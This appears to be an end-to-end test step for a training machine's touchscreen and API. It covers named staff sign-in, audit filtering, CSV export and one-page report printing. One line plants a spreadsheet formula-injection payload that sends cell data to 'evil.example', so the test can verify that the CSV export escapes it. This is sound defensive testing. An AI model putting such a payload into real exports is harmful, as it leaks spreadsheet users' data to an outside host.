// Walk-through step 4 (issue 13 §3 "For staff", named staff accounts): a
// named staff account is made through the API (maintenance makes it), staff
// sign in on the HMI by tapping their name and typing their PIN, change the
// member's programme, and find that change in the audit viewer under their
// own name, filtered by the member; the member's PAIN event on the report;
// the CSV export (downloaded, parsed, a row checked against GET /sets/{id},
// a formula-injection name guarded); the report's Export file and its print
// layout on one A4 page.
//
// ctx fields this step adds (for later steps):
//   ctx.staffAccount {id, name, pin}   the named account
//   ctx.staffLogin(page)               replaced: signs in with that account (tiles + PIN)
//   ctx.staffToken()                   replaced: a token of that account
//   ctx.painSet {id}                   made here if an earlier step did not (a PAIN-stopped set)
// Exported helper: namedStaffLogin(page, account).

import fs from 'node:fs';
import path from 'node:path';
import {
  shots, env, assert, assertEq, athlete, openHmi, tap, typeKeys, keypadOk, shot, waitFor, signOut,
} from '../lib.mjs';

export const name = 'staff';

function layoutOk(problems, what) {
  assert(problems.length === 0, `layout of ${what}: ${problems.join('; ')}`);
}

/** Staff sign-in on the HMI with a named account: the name's tile, then the PIN. */
export async function namedStaffLogin(page, account) {
  await tap(page, '[data-test=staff-login]');
  await tap(page, `[data-test=staff-tiles] [data-staff-id="${account.id}"]`);
  await typeKeys(page, account.pin);
  await keypadOk(page);
  await page.waitForSelector('[data-test=signout]');
}

/** RFC 4180 rows. */
function parseCsv(text) {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { rows[rows.length - 1].push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') {
      rows[rows.length - 1].push(cell); cell = ''; rows.push([]); i++;
    } else cell += c;
  }
  if (!rows[rows.length - 1].length) rows.pop();
  return rows;
}

async function makeAccount(ctx) {
  const maint = (await ctx.api('POST', '/login', { role: 'maintenance', pin: env.maintPin })).token;
  const account = { name: 'NORA PHYSIO', pin: '5813' };
  try {
    account.id = (await ctx.api('POST', '/staff', { name: account.name, pin: account.pin }, maint)).id;
  } catch (e) {
    if (!/ 409 /.test(String(e.message))) throw e;
    // A rerun against the same database (SOLEUS_URL): a name of its own.
    account.name = `NORA PHYSIO ${String(Date.now()).slice(-4)}`;
    account.id = (await ctx.api('POST', '/staff', { name: account.name, pin: account.pin }, maint)).id;
  }
  await ctx.api('POST', '/logout', {}, maint);
  return account;
}

/** A set of ctx.member stopped with PAIN, through the API (when step 3 did not make one). */
async function makePainSet(t, ctx) {
  await athlete(t, { style: 'tempo', tempo: '1-0-1-0' });
  const login = { member: ctx.member.number };
  if (ctx.member.pin) login.pin = ctx.member.pin;
  const tok = (await ctx.api('POST', '/login', login)).token;
  await waitFor(async () => ['idle', 'rest'].includes((await ctx.api('GET', '/status')).state), 20000, 'the machine idle');
  const { id } = await ctx.api('POST', '/sets', { mode: 'isotonic', load_n: 200, tempo: '1-0-1-0', target_reps: 3 }, tok);
  // PAIN after the first counted rep, so that the set has a rep to export.
  await waitFor(async () => { const st = await ctx.api('GET', '/status'); return st.state === 'active' && st.reps >= 1; }, 40000, 'a rep counted');
  await ctx.api('POST', '/sets/current/stop', { reason: 'pain' });
  const set = await waitFor(async () => {
    const s = await ctx.api('GET', `/sets/${id}`, undefined, tok);
    return s.state === 'done' ? s : null;
  }, 30000, 'the PAIN set done');
  assertEq(set.stop_reason, 'pain', 'the set stopped with PAIN');
  await ctx.api('POST', '/logout', {}, tok);
  return { id };
}

export async function run(t, ctx) {
  const account = await makeAccount(ctx);
  ctx.staffAccount = account;
  ctx.staffLogin = (page) => namedStaffLogin(page, account);
  ctx.staffToken = async () => (await ctx.api('POST', '/login', { role: 'staff', staff_id: account.id, pin: account.pin })).token;
  const makesOwnPain = !ctx.painSet; // ours stops after a counted rep; step 3's may stop earlier
  if (!ctx.painSet) ctx.painSet = await makePainSet(t, ctx);
  const tok = await ctx.staffToken();
  // A programme to assign on the HMI, and a name planted for the CSV's formula guard.
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Petra")';
  const prog = await ctx.api('POST', '/programmes', {
    name: 'STAFF STEP', steps: [{ mode: 'isotonic', sets: 1, target_reps: 3, load_n: 250, tempo: '1-0-1-0' }],
  }, tok);
  await ctx.api('PUT', `/members/${ctx.member.id}`, { name: evil }, tok);

  // Sign in by name + PIN on the HMI.
  const page = await openHmi(t.ctx, t.base);
  await tap(page, '[data-test=staff-login]');
  await page.waitForSelector(`[data-test=staff-tiles] [data-staff-id="${account.id}"]`);
  layoutOk(await shot(page, 'protocol-4-staff-tiles', t.report), 'staff tiles');
  await tap(page, `[data-test=staff-tiles] [data-staff-id="${account.id}"]`);
  await typeKeys(page, account.pin);
  await keypadOk(page);
  await page.waitForSelector('[data-test=signout]');
  const who = await page.locator('#who .who-name').textContent();
  assertEq(who, account.name, 'the bar names the signed-in staff member');

  // Change the member's programme on the Members screen.
  await tap(page, '[data-tab=members]');
  await tap(page, `[data-test=member-list] [data-number="${ctx.member.number}"]`);
  await tap(page, '[data-test=m-programme]');
  await tap(page, `.chooser [data-value="${prog.id}"]`);
  await waitFor(async () => (await page.locator('[data-test=m-programme]').textContent()) === 'STAFF STEP', 10000, 'the programme assigned');
  layoutOk(await shot(page, 'protocol-4-staff-member', t.report), 'members with Report, CSV, Audit');

  // The audit, filtered to this member: the change under the staff member's own name.
  await tap(page, '[data-test=m-audit]');
  const row = page.locator(`[data-test=audit-list] .audit-row[data-field=programme][data-actor="${account.name}"]`);
  await row.first().waitFor({ timeout: 10000 });
  const rows = await page.locator('[data-test=audit-list] .audit-row').count();
  assert(rows >= 2, `the member's audit rows shown (${rows})`);
  layoutOk(await shot(page, 'protocol-4-staff-audit', t.report), 'audit');
  const api = await ctx.api('GET', `/audit?member_id=${ctx.member.id}&limit=5`, undefined, tok);
  const mine = api.audit.find((r) => r.field === 'programme');
  assert(mine && mine.actor_name === account.name && mine.actor_id === account.id, `the audit names ${account.name}: ${JSON.stringify(mine)}`);
  // Filtered by person: only their rows.
  await tap(page, '[data-test=audit-member]');
  await tap(page, '.chooser [data-value=__all]');
  await tap(page, '[data-test=audit-person]');
  await tap(page, `.chooser [data-value="${account.id}"]`);
  await page.waitForSelector('[data-test=audit-list] .audit-row');
  const actors = await page.locator('[data-test=audit-list] .audit-row').evaluateAll((els) => els.map((e) => e.dataset.actor));
  assert(actors.length >= 2 && actors.every((a) => a === account.name), `only ${account.name}'s changes: ${actors}`);

  // The accounts screen (from Audit): the account listed; a non-admin may only change their own PIN.
  await tap(page, '[data-test=audit-accounts]');
  await page.waitForSelector(`[data-test=account-list] [data-staff-id="${account.id}"]`);
  assertEq(await page.locator('[data-test=account-new]').count(), 0, 'no New account for a non-admin');
  layoutOk(await shot(page, 'protocol-4-staff-accounts', t.report), 'staff accounts');

  // The CSV export from the Members screen: downloaded, parsed, checked.
  await tap(page, '[data-tab=members]');
  await tap(page, `[data-test=member-list] [data-number="${ctx.member.number}"]`);
  const [csvDl] = await Promise.all([page.waitForEvent('download'), tap(page, '[data-test=m-csv]')]);
  const csv = parseCsv(fs.readFileSync(await csvDl.path(), 'utf8'));
  const head = csv[0];
  const col = (n) => { const i = head.indexOf(n); assert(i >= 0, `CSV column ${n}`); return i; };
  const painRow = csv.find((r) => r[col('set_id')] === String(ctx.painSet.id));
  assert(painRow, `the PAIN set ${ctx.painSet.id} in the CSV`);
  const set = await ctx.api('GET', `/sets/${ctx.painSet.id}`, undefined, tok);
  assertEq(painRow[col('stop_reason')], 'pain', 'CSV stop_reason');
  assertEq(Number(painRow[col('load_n')]), set.load_n, 'CSV load_n against GET /sets/{id}');
  assertEq(painRow[col('member_number')], String(ctx.member.number), 'CSV member_number');
  assertEq(painRow[col('member_name')], `'${evil}`, 'the formula name is text in the CSV');
  // Rep rows: the first rep's peak force as GET /sets/{id} has it.
  const first = (set.rep_log || [])[0];
  if (first || makesOwnPain) {
    assert(first, 'the PAIN set has a rep');
    const repRow = csv.find((r) => r[col('set_id')] === String(ctx.painSet.id) && r[col('rep_seq')] === String(first.seq));
    assert(repRow, 'the first rep\'s row in the CSV');
    assert(Math.abs(Number(repRow[col('rep_peak_force_n')]) - first.peak_force_n) < 0.01, `CSV rep_peak_force_n ${repRow[col('rep_peak_force_n')]} = ${first.peak_force_n}`);
  }

  // The report: the PAIN event, the sections, Export, and one A4 page in print.
  await tap(page, '[data-test=m-report]');
  await page.waitForSelector(`[data-test=pain-events] tr[data-set="${ctx.painSet.id}"]`, { timeout: 15000 });
  layoutOk(await shot(page, 'protocol-4-staff-report', t.report), 'report');
  const [htmlDl] = await Promise.all([page.waitForEvent('download'), tap(page, '[data-test=report-export]')]);
  const html = fs.readFileSync(await htmlDl.path(), 'utf8');
  for (const s of ['strength', 'adherence', 'pain', 'programme']) assert(html.includes(`data-section="${s}"`), `the exported report has the ${s} section`);
  assert(html.includes('@page') && html.includes('<style>'), 'the export carries its print styles');
  assert(!/<script|<link|src="http/i.test(html), 'the export is self-contained');
  assert(html.includes('STAFF STEP'), 'the export names the programme');
  await page.emulateMedia({ media: 'print' });
  // A4 is 210 mm wide; 12 mm margins leave 186 mm (703 px at 96 px/in) by 273 mm (1032 px).
  await page.setViewportSize({ width: 703, height: 1032 });
  const printed = await page.evaluate(() => {
    const r = document.querySelector('[data-test=report]').getBoundingClientRect();
    return { height: r.height, bar: getComputedStyle(document.getElementById('bar')).display };
  });
  assert(printed.height <= 1032, `the report fits one A4 page in print (${Math.round(printed.height)} px of 1032)`);
  assertEq(printed.bar, 'none', 'the bar is not printed');
  await page.screenshot({ path: path.join(shots, 'protocol-4-staff-report-print.png'), fullPage: true });
  // Chromium's own print to PDF, A4: one page.
  const pdf = await page.pdf({ format: 'A4', preferCSSPageSize: true });
  fs.writeFileSync(path.join(shots, 'protocol-4-staff-report.pdf'), pdf);
  const pdfPages = (pdf.toString('latin1').match(/\/Type\s*\/Page\b(?!s)/g) || []).length;
  assertEq(pdfPages, 1, 'the report prints on one A4 page (PDF pages)');
  await page.emulateMedia({ media: 'screen' });
  await page.setViewportSize({ width: 800, height: 480 });
  t.log(`report: ${Math.round(printed.height)} px of an A4 page's 1032; CSV ${csv.length - 1} rows`);
  await signOut(page);
  assert(page.errors.length === 0, `no page errors: ${page.errors.join('; ')}`);
  await page.close();
}
